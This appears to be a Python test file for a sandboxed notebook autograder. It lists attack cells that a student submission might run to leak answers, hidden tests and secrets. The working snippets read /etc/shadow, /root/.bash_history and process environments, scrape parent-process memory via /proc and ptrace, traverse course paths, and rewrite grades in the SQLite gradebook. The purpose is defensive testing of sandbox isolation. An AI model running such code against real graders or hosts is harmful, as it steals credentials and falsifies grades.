# ruff: noqa: E501  (code of attacks is data, and kept as a student would write it)
"""Attacks that look for what the box must not hold: answers, hidden tests, grades, other students, the machine's secrets.

What they find they print, so that it would stand in the pages that their students receive.
"""

from attack import GREP, LOOP, NETWORK, Attack

LEAK = [
    Attack(
        "files", "leak",
        "Reads every file in reach, outside of the libraries, for solutions, hidden tests and other submissions.",
        cells={
            "convnet": GREP
            + "print('tried', grep(['/box', '/home', '/tmp', '/var', '/root', '/mnt', '/srv', '/opt', '/etc', '/work']))"
        },
    ),
    Attack(
        "libraries", "leak", "Looks for the grader's own package beside the libraries, and imports it.",
        cells={
            "convnet": """
import importlib, os, site, sys
for name in ("autograder", "autograder.judging.judge", "autograder.assignments.pa4_convnet.test_results",
             "autograder.assignments.pa4_convnet.reference", "test_results", "reference"):
    try:
        module = importlib.import_module(name)
        print(name, module.__file__, open(module.__file__).read()[-5000:])
    except Exception as error:
        print(name, error)
for folder in {*sys.path, *site.getsitepackages()}:
    inside = os.path.join(folder, "autograder")
    print(folder, os.listdir(inside) if os.path.isdir(inside) else "")
print("tried", "autograder" in str(sorted(sys.modules)))
"""
        },
    ),
    Attack(
        "course_folder", "leak", "Opens the course by its path, by paths above its own, and through /proc.",
        cells={
            "convnet": """
import os
for top in ("@COURSE@", "..", "../../..", "/proc/1/root/@COURSE@", "/proc/1/cwd", "/proc/self/root/@COURSE@", "/proc/2/root"):
    for inner in ("source/pa4_convnet/pa4_convnet.ipynb", "out/gradebook.db", "../hidden/pa4_convnet/test_results.py",
                  "submitted/victim/pa4_convnet/pa4_convnet.ipynb", "out/outcomes.json"):
        try:
            print(open(os.path.join(top, inner), "rb").read()[-20000:])
        except OSError as error:
            print("tried", error)
"""
        },
    ),
    Attack(
        "gradebook", "leak", "Opens the gradebook with SQLite and writes full points into it.",
        cells={
            "convnet": """
import sqlite3
for place in ("@COURSE@/out/gradebook.db", "file:@COURSE@/out/gradebook.db?mode=rw", "gradebook.db", "../gradebook.db"):
    try:
        db = sqlite3.connect(place, uri=place.startswith("file"))
        print(db.execute("select last_name from student").fetchall())
        db.execute("update grade set auto_score = 100, manual_score = 100")
        db.commit()
    except sqlite3.Error as error:
        print("tried", error)
"""
        },
    ),
    Attack(
        "environment", "leak", "Prints the environment of every process that it sees.",
        cells={
            "convnet": """
import os
print("tried", dict(os.environ))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            print(pid, name, open(f"/proc/{pid}/{name}", "rb").read())
        except OSError as error:
            print("tried", error)
"""
        },
    ),
    Attack(
        "parents_memory", "leak", "Reads the memory of its parent and of process 1, by /proc, by ptrace and by a system call.",
        cells={
            "convnet": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, os.getppid()}:
    try:
        for line in open(f"/proc/{pid}/maps"):
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if last - first < 50_000_000 and "rw" in line:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(first)
                    text = memory.read(last - first)
                    at = text.find(b"CAN" + b"ARY-")
                    print("found" if at >= 0 else "", text[at:at + 80] if at >= 0 else "")
    except OSError as error:
        print(error)
    print(libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
print("tried")
"""
        },
    ),
    Attack(
        "own_memory", "leak", "Searches its own process, a fork of a process of the grader, for texts that were in it before.",
        cells={
            "convnet": """
word, found, read = b"CAN" + b"ARY-", [], 0
for line in open("/proc/self/maps"):
    first, last = (int(part, 16) for part in line.split()[0].split("-"))
    if "rw" not in line or last - first > 300_000_000 or read > 800_000_000:
        continue
    try:
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(first)
            text = memory.read(last - first)
    except OSError:
        continue
    read += len(text)
    at = text.find(word)
    while at >= 0:
        found.append(text[at:at + 60])
        at = text.find(word, at + 1)
print("tried", len(found), [one for one in found if b"-" in one[8:]][:50])
del text
"""
        },
    ),
    Attack(
        "frames", "leak", "Walks up the call stack and prints the local variables of the code that runs it.",
        cells={
            "convnet": """
import sys
frame = sys._getframe()
while frame is not None:
    print(frame.f_code.co_filename, str({k: repr(v)[:3000] for k, v in frame.f_locals.items() if k != "job"})[:20000])
    frame = frame.f_back
print("tried")
"""
        },
    ),
    Attack(
        "expected_tensors", "leak", "Takes from the garbage collector every tensor of the shape that an answer must have.",
        holds="No expected value is in the box, so what is found is its own.",
        solved=LOOP,
        cells={
            "feature_maps": """
import gc
found = [x for x in gc.get_objects() if isinstance(x, torch.Tensor) and tuple(x.shape) == (1, 32, 28, 28)]
print("tried", len(found))
output = found[0] if found else torch.zeros(1, 32, 28, 28)
feature_maps = {digit: output for digit in range(10)}
"""
        },
    ),
    Attack(
        "descriptors", "leak", "Reads all open file descriptors, also backwards from their end.",
        cells={
            "convnet": """
import os, stat
print("tried")
for name in sorted(os.listdir("/proc/self/fd")):
    try:
        where = os.readlink("/proc/self/fd/" + name)
        text = b""
        if stat.S_ISREG(os.stat("/proc/self/fd/" + name).st_mode):
            text = os.pread(int(name), 200_000, 0)
        print(name, where, text)
    except OSError as error:
        print(name, error)
print("tried")
"""
        },
    ),
    Attack(
        "test_images", "leak", "Looks for the real test images, which decide the accuracy, by their published hashes.",
        holds="They are not in the box: decoys are.",
        solved=NETWORK,
        added=(
            (
                "imports",
                """
import hashlib, os
known = {"0fa7898d509279e482958e8ce81c8e77db3f2f8254e26661ceb7762c4d494ce7", "ff7bcfd416de33731a308c3f266cc351222c34898ecbeaf847f06e48f7ec33f2"}
for folder, _, files in os.walk("/box"):
    for name in files:
        with open(os.path.join(folder, name), "rb") as file:
            print(name, "REAL TEST SET" if hashlib.sha256(file.read()).hexdigest() in known else "")
print("tried")
""",
            ),
        ),
    ),
    Attack(
        "pictures_of_files", "leak", "Shows files as pictures and links, which a page might embed.",
        cells={
            "convnet": """
from IPython.display import Image, HTML, FileLink, Markdown, display
import os
os.symlink("@COURSE@/out/gradebook.db", "picture.png")
for path in ("picture.png", "@COURSE@/out/gradebook.db", "/etc/passwd", "/proc/self/environ"):
    for make in (lambda: Image(filename=path, format="png"), lambda: FileLink(path), lambda: HTML(filename=path)):
        try:
            display(make())
        except Exception as error:
            print("tried", type(error).__name__)
display(Markdown("![x](file://@COURSE@/out/gradebook.db)"))
print("tried")
"""
        },
    ),
    Attack(
        "shell_commands", "leak", "Uses IPython's own ways to other programs: !, %%bash, %system, %cat, %store, %run.",
        cells={
            "convnet": """
!cat @COURSE@/out/gradebook.db /etc/shadow /root/.bash_history; env; ls -laR /box | head -50; mount; ps aux
get_ipython().run_cell_magic("bash", "", "env; cat @COURSE@/source/pa4_convnet/pa4_convnet.ipynb; id")
get_ipython().run_line_magic("run", "@COURSE@/source/pa4_convnet/pa4_convnet.ipynb")
print("tried")
"""
        },
    ),
]  # fmt: skip
